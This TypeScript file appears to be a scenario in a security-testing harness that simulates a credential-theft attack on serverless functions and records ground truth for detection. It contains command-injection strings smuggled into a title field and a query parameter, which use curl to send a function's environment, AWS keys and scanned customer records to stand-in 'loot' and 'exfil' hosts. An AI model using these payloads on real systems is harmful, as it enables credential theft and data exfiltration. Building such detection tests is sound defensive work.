/**
 * Credential theft: the environment of one function is sent away; another function fetches it and uses the credentials in it,
 * so that the table is read from where nobody would look.
 */
import { customers, scanCustomers, Truth } from '../desk/truth.ts';
import type { Outcome, Scenario, World } from '../scenario.ts';

export const credentialTheft: Scenario = {
  name: 'credential-theft',
  what: "one function's credentials, taken from its environment, are used from another one",
  starts: 'domain',
  hosts: ['loot', 'exfil'],
  run,
};

async function run(world: World): Promise<Outcome> {
  const { random } = world;
  const loot = world.host('loot');
  const exfil = world.host('exfil');
  const [put, get, out] = [`/${random.word(6)}`, `/${random.word(6)}`, `/${random.word(6)}`];
  const thief = world.agent();
  const title = `${random.word(6)}";curl -s --data-binary @/proc/self/environ ${loot.url}${put};: "`;
  const stolen = await world.call('POST', '/convert', { body: { title, text: random.word(20) }, agent: thief });
  const environment = world.visits('loot').find(({ path }) => path === put)?.body;
  if (environment?.includes('AWS_SECRET_ACCESS_KEY=') !== true) throw new Error(`no credentials arrived: ${stolen.status}`);
  await world.turn();

  world.serve('loot', get, environment);
  const [env, data] = [`/tmp/.${random.word(6)}`, `/tmp/.${random.word(6)}`];
  // Double quotes would end the words that are looked for.
  const use = `curl -s ${loot.url}${get} -o ${env}; export $(tr '\\0' '\\n' <${env} | grep ^AWS_)`;
  const find = `x" /dev/null; ${use}; ${scanCustomers(data)}; curl -s --data-binary @${data} ${exfil.url}${out}; : "`;
  const agent = world.agent();
  const used = await world.call('GET', `/library/handbook.txt?find=${encodeURIComponent(find)}`, { agent });
  if (!world.visits('exfil').some(({ body }) => body.includes('iban'))) throw new Error(`no customers arrived: ${used.status}`);

  const truth = new Truth()
    .asks('the theft', 'convert', stolen, thief)
    .converts(stolen)
    .programs('convert', stolen, 'sh -c printf', 'curl -s --data-binary')
    .file('convert', '/proc/self/environ')
    .call('convert', stolen, `POST https://${loot.host}${put}`)
    .endpoint(loot.host)
    .asks('the use', 'library', used, agent)
    .programs('library', used, 'sh -c grep', `curl -s ${loot.url}`, 'curl -s --aws-sigv4', 'curl -s --data-binary')
    .call('library', used, `GET https://${loot.host}${get}`)
    .file('library', env)
    .call('library', used, 'dynamodb:Scan')
    .attack('the customers', customers)
    .file('library', data)
    .call('library', used, `POST https://${exfil.host}${out}`)
    .endpoint(exfil.host)
    .context('the document is fetched', {
      kind: 'exchange',
      label: '^s3:GetObject',
      function: 'desk-library',
      entry: used.requestId,
    })
    .context('the document', { kind: 'resource', label: '/library/handbook.txt@' })
    .context('the document', { kind: 'file', label: '^/tmp/library/handbook.txt$', function: 'desk-library' })
    .context('programs of the line', {
      ...{
        kind: 'process',
        label: '^(grep|tr|/usr/bin/dash|/bin/sh|process)',
        function: 'desk-library',
        entry: used.requestId,
      },
    });
  return { fact: { what: 'domain', q: exfil.host }, entries: [stolen.requestId, used.requestId], steps: truth.steps };
}
